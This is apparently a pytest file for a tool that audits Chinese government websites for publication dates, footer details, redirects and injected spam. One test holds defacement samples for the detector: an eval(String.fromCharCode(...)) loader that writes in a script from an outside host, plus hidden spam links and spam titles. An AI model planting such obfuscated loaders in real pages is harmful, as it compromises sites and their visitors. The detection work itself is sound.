"""Wordings and markup that were misread on trial: each is the smallest that shows its kind."""

from datetime import date

import pytest

from checks.page import Page, State, open_page

TODAY = date(2026, 11, 30)
HOME = "http://www.quxian.gov.cn/"
TITLE = "全区秋冬季森林防火工作会议召开"
TEXT = "<p>为贯彻落实上级部署，有关部门要压实责任，细化措施，确保各项工作落地见效。</p>" * 3


def page(html: str, url: str = HOME) -> Page:
    return open_page(html.encode(), url, content_type="text/html; charset=utf-8", today=TODAY)


def article(info: str, title: str = f"{TITLE}_某区人民政府") -> Page:
    return page(f"<title>{title}</title><h1>{TITLE}</h1><div>{info}</div>{TEXT}", f"{HOME}zw/content_1.html")


@pytest.mark.parametrize(
    ("info", "day"),
    [
        ("最后修改：2026-11-11 08:00　首次发布：2026-10-21 08:00", "2026-10-21"),
        ("2026-10-2109:15　来源：本站", "2026-10-21"),
        ("<span>前天 08:32</span><span>某某发布</span>", "2026-11-28"),
        ("<p>2026-10-21 | 已阅 1,203 次 | 分享到：</p>", "2026-10-21"),
        ("<p>索引号：1</p><table><tr><td>生成日期</td><td>2026-10-21</td></tr></table>", "2026-10-21"),
        ("<p>访谈时间：2026-11-12 15:00</p><p>嘉宾：区医保局局长</p>", None),
        ("<table><tr><td>来信时间</td><td>2026-10-18</td></tr><tr><td>答复时间</td><td>2026-10-21</td></tr></table>",
         "2026-10-21"),
        ("<table><tr><td>文号</td><td>成文日期</td><td>发布日期</td></tr>"
         "<tr><td>某府〔2026〕3号</td><td>2026-10-15</td><td>2026-10-21</td></tr></table>", "2026-10-21"),
        ("<table><tr><td>名称</td><td>处罚日期</td></tr><tr><td>店</td><td>2025-3-8</td></tr></table>", None),
    ],
)  # fmt: skip
def test_the_day_of_publishing(info: str, day: str | None):
    found = article(info).published
    assert (str(found.value) if found else None) == day


def test_the_title_may_stand_behind_the_names_of_site_and_column():
    rows = f"<tr><td>{TITLE}</td></tr><tr><td><span>［2026-10-21］</span> 来源：区政府办</td></tr>"
    html = f"<title>某区人民政府 政务动态 {TITLE}</title><table>{rows}<tr><td>{TEXT}</td></tr></table>"
    found = page(html, f"{HOME}zw/content_1.html").published
    assert found
    assert found.value == date(2026, 10, 21)


def test_the_day_in_a_tag_and_in_an_address_of_digits():
    tag = "<meta name=pubdate content=20261021090000>"
    found = [page(f"<title>{TITLE}</title>{tag}<h1>{TITLE}</h1>{TEXT}").published]
    found.append(
        page(f"<title>{TITLE}</title><h1>{TITLE}</h1>{TEXT}", f"{HOME}202610/21/c123.html").published
    )
    assert [one and one.value for one in found] == [date(2026, 10, 21)] * 2


@pytest.mark.parametrize(
    ("said", "newest"),
    [
        ("发布：2021-11-19 截止：2026-11-20", "2021-11-19"),
        ("2021-11-19 截止", None),
        ("Friday, November 19, 2021", "2021-11-19"),
        ("11月2日, 2021-11-19 发生", None),
    ],
)
def test_the_day_of_an_item(said: str, newest: str | None):
    rows = "".join(f"<li><a href='/x/{n}.html'>{TITLE}{n}</a> <i>{said}</i></li>" for n in range(4))
    found = page(f"<title>工作动态</title><ul>{rows}</ul>").newest_of_list
    assert (str(found.day) if found and found.confidence > 0.45 else None) == newest


def test_a_line_that_runs_over_a_list_is_not_the_list():
    rows = "".join(f"<li><a href='/x/{n}.html'>{TITLE}{n}</a><b>2021-11-{10 + n}</b></li>" for n in range(4))
    running = "<marquee><a href='/tz/1.html'>关于元旦假期安排的公告</a> 2026-11-29</marquee>"
    found = page(f"<title>工作动态</title>{running}<ul>{rows}</ul>").newest_of_list
    assert found
    assert found.day == date(2021, 11, 13)


def foot(html: str) -> Page:
    return page(f'<title>某区</title><ul><li><a href="/a.html">{TITLE}</a></li></ul>{html}')


@pytest.mark.parametrize(
    ("name", "html", "state", "value"),
    [
        ("icp", '<div class="foot">京ICP备（05070218）号-1</div>', State.PRESENT, "京ICP备05070218号-1"),
        ("contact", '<div class="foot">传真：023-63765001 邮编：400010</div>', State.MISSING, ""),
        ("contact", '<div class="foot">传真：023-63765001 023-63765000</div>', State.PRESENT, "023-63765000"),
        ("sitemap", '<div class="foot"><a href="/sitemap.xml">sitemap</a></div>', State.MISSING, ""),
        ("accessibility", '<a href="http://old.qu.cn/">长者专版</a>', State.PRESENT, "http://old.qu.cn/"),
        ("icp", '<div id="f"></div><script>$("#f").load("/inc/foot.html")</script>', State.UNKNOWN, ""),
        ("icp", '<script>$("#a").load("/inc/news.html")</script><p>正文</p>', State.MISSING, ""),
    ],
)
def test_a_mark(name: str, html: str, state: State, value: str):
    found = foot(html).marks[name]
    assert (found.state, found.value) == (state, value)


CODES = ",".join(str(ord(one)) for one in 'document.write("<script src=http://a.b.top/x.js><\\/script>")')


@pytest.mark.parametrize(
    "html",
    [
        "<title>&#28595;&#38376;&#33889;&#20140;&#23089;&#20048;</title>",
        "<title>国产精品久久久久-亚洲无码在线观看</title>",
        f"<script>eval(String.fromCharCode({CODES}))</script>",
        '<div style="display:none"><a href="http://www.bjnk120.com/">北京治疗不孕不育哪家医院好</a></div>',
    ],
)
def test_what_is_planted(html: str):
    assert any(one.sure for one in page(html).planted)


@pytest.mark.parametrize(
    "html",
    [
        "<script>document.write(unescape(\"%3Cscript src='http://tj.shuju.com.cn/h.js'%3E%3C/script%3E\"))</script>",
        '<div style="display:none"><a href="/yy/nk.html">区人民医院男科门诊排班</a></div>',
        "<title>国产精品牌走进消费帮扶展区</title>",
    ],
)
def test_what_only_looks_planted(html: str):
    assert page(html).planted == ()


@pytest.mark.parametrize(
    ("html", "target"),
    [
        # Chromium follows a refresh as it meets it: a base behind it is none for it.
        ('<meta http-equiv="refresh" content="0;url=index.html"><base href="/web/">', "/index.html"),
        ('<base href="/web/"><meta http-equiv="refresh" content="0;url=index.html">', "/web/index.html"),
        ('<script>// location.href="/old/";\nlocation.href="/new/";</script>', "/new/"),
        ('<script>/* location.href="/old/" */ location.href="/new/"</script>', "/new/"),
        ('<script>function go(){location.href="/login"}</script><div id=app></div>', None),
        ('<script>function go(){location.href="/login"}go()</script>', "/login"),
        ("<script>location=`/web/`</script>", "/web/"),
        ('<script>location.pathname="/web/"</script>', "/web/"),
        ('<script>location.replace(window.location.href + "web/index.html")</script>', "/web/index.html"),
        ('<script>location.href="/web/?t="+new Date().getTime()</script>', "/web/?t=0"),
        ('<script>location.href="/web/?v="+Math.random();</script>', "/web/?v=0"),
        ('<script>var u="/pc/";if(/iPhone/.test(userAgent)){u="/m/"} location.href=u;</script>', "/pc/"),
    ],
)  # fmt: skip
def test_where_a_page_passes_its_visitor_on(html: str, target: str | None):
    found = page(f"<html><head><title>跳转</title>{html}").onward
    assert found == (target and HOME.rstrip("/") + target)


@pytest.mark.parametrize(
    "html",
    [
        "<li onclick=\"location.href='/hd/'\">领导信箱</li>",
        '<a href="mailto:x@quxian.gov.cn">区长信箱</a>',
        '<a href="/12345/">12345政务服务便民热线</a>',
        '<a href="/ts/">投诉与建议</a>',
    ],
)
def test_a_way_to_speak_to_the_office(html: str):
    assert foot(html).interaction.state is State.PRESENT


@pytest.mark.parametrize(
    "title", ["我区召开12345热线工作推进会", "县长带队调研县级政务服务热线", "关于规划草案公开征求意见"]
)
def test_a_title_with_such_a_word_in_it_is_none(title: str):
    assert foot(f'<a href="/1.html">{title}</a>').interaction.state is State.MISSING


def test_a_picture_that_leads_to_the_search():
    assert foot('<a href="/search.html"><img src="s.png"></a>').search_box.state is State.PRESENT


@pytest.mark.parametrize(
    ("html", "state"),
    [
        ('<ul id="l"></ul><div hidden>暂无数据</div><script src="/js/list.js"></script>', State.UNKNOWN),
        ('<div id="app"></div><script src="/static/app.js"></script>', State.UNKNOWN),
        ('<ul class="l"></ul><script src="/js/tongji.js"></script>', State.MISSING),
        ('<div id="footer"></div><ul></ul><script src="/js/tongji.js"></script>', State.MISSING),
        ("<form action='/ysq'><textarea name=b></textarea></form>", State.PRESENT),
    ],
)
def test_what_a_column_shows(html: str, state: State):
    menu = '<div class="nav"><a href="/">首页</a><a href="/zwgk/">政务公开</a></div>'
    assert page(f"<title>依申请公开</title>{menu}{html}", f"{HOME}ysq/").filled.value is state


def test_points_in_an_address_that_are_written_as_numbers():
    assert [one.address for one in page('<a href="/a/%2e%2E/b.html">x</a>').references] == [f"{HOME}b.html"]
